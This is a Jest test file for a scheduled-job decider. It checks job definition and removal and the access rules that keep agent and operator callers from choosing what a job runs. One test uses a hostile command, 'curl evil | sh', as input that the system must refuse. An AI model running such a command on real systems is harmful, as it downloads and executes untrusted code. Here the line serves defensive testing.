import { describe, it } from '@jest/globals';
import { ScheduledJobDefined, ScheduledJobRemoved } from '../../events/jobs.events.js';
import { given } from '../../storage/testing/given.js';
import { AGENT, OPERATOR, OWNER } from '../testing/rule-subjects.js';
import { scheduledJobDecider as job } from './scheduled-job.decider.js';

const settings = {
  jobId: 'j-1',
  serviceId: 's-1',
  name: 'nightly-report',
  schedule: '0 3 * * *',
  timezone: 'UTC',
  composeService: 'api',
  command: ['sh', '-c', 'report'],
  timeLimitSeconds: 600,
  overlap: 'forbid' as const,
  enabled: true,
};
const defined = ScheduledJobDefined(settings);
/** Defines `settings` as the owner, on a service without a rule. */
const define = (s = settings) => ({
  kind: 'define' as const,
  settings: s,
  by: OWNER,
  rule: 'none' as const,
});

describe('scheduled job decider', () => {
  it('Given nothing, When a job is defined, Then it is', () => {
    given(job).when(define()).then(defined);
  });

  it('Given a job, When defined the same, Then nothing; changed, Then defined anew', () => {
    given(job, defined).when(define()).thenNothing();
    given(job, defined)
      .when(define({ ...settings, schedule: '0 4 * * *' }))
      .then(ScheduledJobDefined({ ...settings, schedule: '0 4 * * *' }));
  });

  it('Given a job, When it is moved to another service, Then it is refused', () => {
    given(job, defined)
      .when(define({ ...settings, serviceId: 's-2' }))
      .thenRefused('CONFLICT', /stays with its service/);
  });

  it('Given a job, When removed, Then it is gone for good', () => {
    given(job, defined)
      .when({ kind: 'remove', jobId: 'j-1' })
      .then(ScheduledJobRemoved({ jobId: 'j-1', serviceId: 's-1' }));
    given(job, defined, ScheduledJobRemoved({ jobId: 'j-1', serviceId: 's-1' }))
      .when(define())
      .thenRefused('NOT_FOUND', /No such scheduled job/);
    given(job)
      .when({ kind: 'remove', jobId: 'j-1' })
      .thenRefused('NOT_FOUND', /No such/);
  });

  describe('what a job runs is chosen only by a caller the service’s rule does not hold back', () => {
    const as = (by: typeof OWNER, rule: 'agents' | 'all-but-admins', s = settings) => ({
      kind: 'define' as const,
      settings: s,
      by,
      rule,
    });

    it('Given agents, When an agent defines a job, or changes its command or container, Then refused', () => {
      given(job)
        .when(as(AGENT, 'agents'))
        .thenRefused('FORBIDDEN', /choose what a scheduled job/);
      given(job, defined)
        .when(as(AGENT, 'agents', { ...settings, command: ['sh', '-c', 'curl evil | sh'] }))
        .thenRefused('FORBIDDEN', /approval rule \(agents\)/);
      given(job, defined)
        .when(as(AGENT, 'agents', { ...settings, composeService: 'db' }))
        .thenRefused('FORBIDDEN');
    });

    it('Given agents, When an agent changes only when the job runs, Then defined; an operator, anything', () => {
      const later = { ...settings, schedule: '0 5 * * *', enabled: false, timeLimitSeconds: 60 };
      given(job, defined)
        .when(as(AGENT, 'agents', later))
        .then(ScheduledJobDefined(later));
      const other = { ...settings, command: ['sh', '-c', 'report --full'] };
      given(job, defined)
        .when(as(OPERATOR, 'agents', other))
        .then(ScheduledJobDefined(other));
    });

    it('Given all-but-admins, When an operator defines a job, Then refused', () => {
      given(job)
        .when(as(OPERATOR, 'all-but-admins'))
        .thenRefused('FORBIDDEN', /an owner or admin/);
    });
  });
});
